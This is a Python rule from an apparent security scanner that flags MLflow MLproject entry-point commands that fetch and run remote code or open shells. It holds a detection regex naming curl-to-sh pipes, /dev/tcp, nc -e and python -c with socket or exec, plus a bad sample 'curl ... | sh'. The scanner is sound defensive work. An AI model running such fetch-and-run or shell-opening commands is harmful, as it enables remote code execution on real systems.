"""MDL112: commands of projects that fetch and run."""

from __future__ import annotations

import re
from collections.abc import Iterator

from hauberk.core.finding import Finding, Place, Severity
from hauberk.core.rule import Sample, rule
from hauberk.formats.yaml_document import YamlDocument

FETCHES = re.compile(
    r"(?:curl|wget)\b[^\n|;&]*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b|/dev/tcp/|\bn(?:c|cat)\b[^\n]*\s-e\s"
    r"|base64\s+(?:-d|-D|--decode)[^\n]*\|\s*(?:ba)?sh\b|\b(?:ba)?sh\s+-i\b|\b(?:ba)?sh\s+-c\b[^\n]*(?:curl|wget)"
    r"|python3?\s+-c\b[^\n]*(?:exec|eval|__import__|os\.system|subprocess|socket)"
)


@rule(
    "MDL112",
    Severity.HIGH,
    maps=["CWE-78", "CWE-494", "AML.T0050"],
    bad=[Sample("MLproject", b"entry_points:\n  main:\n    command: curl -s https://example.org/x | sh\n")],
    good=[Sample("MLproject", b"entry_points:\n  main:\n    command: python train.py {alpha}\n")],
)
def project_command(view: YamlDocument) -> Iterator[Finding]:
    """A command of the project fetches code and runs it, or opens a shell.

    Why: `mlflow run` hands the command to a shell as it stands.
    Remediation: put what is fetched into the project, and call it by name.
    Source: MLflow documentation, "MLflow Projects", entry points.
    """
    if view.name != "MLproject":
        return
    for found in FETCHES.finditer(view.text):
        line = view.text.count("\n", 0, found.start()) + 1
        yield Finding("MDL112", Place(view.locator, line=line), f"runs {found[0][:100]!r}", found[0][:100])
